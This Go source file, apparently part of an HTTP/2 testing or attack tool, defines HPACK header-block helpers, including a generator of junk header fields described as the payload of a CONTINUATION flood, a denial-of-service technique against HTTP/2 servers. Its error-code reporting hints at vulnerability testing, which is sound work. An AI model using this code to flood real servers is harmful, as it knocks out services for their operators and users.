package attack

import (
	"bytes"
	"fmt"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The h2 attacks write their frames with x/net/http2's Framer and their
// header blocks with its HPACK encoder. The attacks stay within what the
// Framer writes: a header block that never ends is a HEADERS frame without
// END_HEADERS followed by CONTINUATION frames, each well formed.

// maxFrameLen is the default SETTINGS_MAX_FRAME_SIZE, which we never raise.
const maxFrameLen = 1 << 14

// codeName names an HTTP/2 error code in reports; unknown codes in hex.
func codeName(c http2.ErrCode) string {
	if c <= http2.ErrCodeHTTP11Required {
		return c.String()
	}
	return fmt.Sprintf("0x%x", uint32(c))
}

// blockEncoder encodes the attacks' HPACK header blocks. Its dynamic table
// has size 0, so no field is ever indexed and no block depends on another:
// one request block is sent on every stream, and a junk fragment can be cut
// at any field. Every field is a literal without indexing or a static-table
// index; the first block starts with the size update that announces it.
type blockEncoder struct {
	buf bytes.Buffer // the block being encoded
	enc *hpack.Encoder
}

func newBlockEncoder() *blockEncoder {
	b := &blockEncoder{}
	b.enc = hpack.NewEncoder(&b.buf)
	b.enc.SetMaxDynamicTableSizeLimit(0)
	return b
}

// request returns the header block of a GET.
func (b *blockEncoder) request(tls bool, authority, path, ua string) []byte {
	scheme := "http"
	if tls {
		scheme = "https"
	}
	b.buf.Reset()
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":scheme", Value: scheme},
		{Name: ":authority", Value: authority},
		{Name: ":path", Value: path},
		{Name: "user-agent", Value: ua},
	} {
		_ = b.enc.WriteField(f) // a bytes.Buffer takes every write
	}
	return bytes.Clone(b.buf.Bytes())
}

// junk returns junk header fields, at most n bytes of them and as many as
// fit: the payload of a CONTINUATION flood. It is valid until the next call.
func (b *blockEncoder) junk(n int) []byte {
	b.buf.Reset()
	var name, value [24]byte
	for {
		end := b.buf.Len()
		_ = b.enc.WriteField(hpack.HeaderField{
			Name:  string(appendLetters(append(name[:0], "x-"...), 6)),
			Value: string(appendHex(value[:0], 16)),
		})
		if b.buf.Len() > n {
			b.buf.Truncate(end) // the encoder indexed nothing, so its state holds
			return b.buf.Bytes()
		}
	}
}
